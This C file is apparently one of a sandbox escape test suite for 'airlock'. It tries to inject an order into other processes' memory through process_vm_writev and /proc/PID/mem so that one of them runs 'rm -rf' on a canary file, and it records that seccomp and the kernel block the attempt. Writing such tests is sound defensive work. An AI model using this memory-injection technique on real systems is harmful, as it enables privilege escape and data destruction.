// attack: airlock: write into other processes' memory (process_vm_writev, then /proc/PID/mem) to make one rm -rf the canary
// stopped by: seccomp(process_vm_writev), kernel(/proc/1/mem)
//
// A memory-write primitive into a process outside the filter (the sandbox's pid 1 is airlock's
// init: no seccomp, every capability in the user namespace) would be an escape. The attack tries
// process_vm_writev and /proc/PID/mem on pid 1 and every other visible pid, then on a child of
// its own that waits for an order in its memory (at the same address as in the parent: fork),
// the stand-in that makes the bare run do damage. Inside the sandbox that child is as confined
// as we are, so its rm must be held all the same. Our ancestors are left alone.
#define _GNU_SOURCE
#include "attack.h"
#include <signal.h>
#include <stdint.h>
#include <sys/uio.h>
#include <sys/wait.h>

static volatile struct { int go; char path[4096]; } order;

// Write the order into pid's memory at &order: path first, then go.
static int deliver(pid_t pid, const char *canary) {
    int one = 1;
    struct iovec local[2] = {{(void *)canary, strlen(canary) + 1}, {&one, sizeof one}};
    struct iovec remote[2] = {{(void *)order.path, strlen(canary) + 1}, {(void *)&order.go, sizeof one}};
    ssize_t n = process_vm_writev(pid, &local[0], 1, &remote[0], 1, 0);
    if (n > 0) n = process_vm_writev(pid, &local[1], 1, &remote[1], 1, 0);
    printf("process_vm_writev(%d) -> %s\n", pid, n > 0 ? "OK" : strerrorname_np(errno));
    if (n > 0) return 0;
    char mem[64];
    snprintf(mem, sizeof mem, "/proc/%d/mem", pid);
    int fd = open(mem, O_RDWR | O_CLOEXEC);
    if (fd < 0) { printf("open(%s, O_RDWR) -> %s\n", mem, strerrorname_np(errno)); return -1; }
    n = pwrite(fd, canary, strlen(canary) + 1, (off_t)(uintptr_t)order.path);
    if (n > 0) n = pwrite(fd, &one, sizeof one, (off_t)(uintptr_t)&order.go);
    printf("pwrite(%s) -> %s\n", mem, n > 0 ? "OK" : strerrorname_np(errno));
    close(fd);
    return n > 0 ? 0 : -1;
}

int main(void) {
    const char *canary = getenv("CANARY");
    if (!canary) { fprintf(stderr, "no CANARY\n"); return 2; }
    pid_t victim = fork();
    if (victim == 0) {
        while (!order.go) usleep(10 * 1000);
        execl("/bin/rm", "rm", "-rf", (const char *)order.path, (char *)NULL);
        _exit(127);
    }
    usleep(100 * 1000);
    pid_t targets[4096];
    int n = 0;
    if (getpid() != 1) targets[n++] = 1;
    n += other_pids(targets + n, 4095 - n, victim);
    targets[n++] = victim;
    for (int i = 0; i < n; i++) {
        if (deliver(targets[i], canary) == 0 && targets[i] != victim) printf("wrote into pid %d's memory\n", targets[i]);
    }
    int status = 0, ended = 0;
    for (int i = 0; i < 50 && !ended; i++) {
        ended = waitpid(victim, &status, WNOHANG) == victim;
        if (!ended) usleep(100 * 1000);
    }
    printf("victim: %s; canary %s\n", ended ? "ran its order" : "never got its order",
           access(canary, F_OK) == 0 ? "still there" : "gone");
    kill(victim, SIGKILL);
    return 0;
}
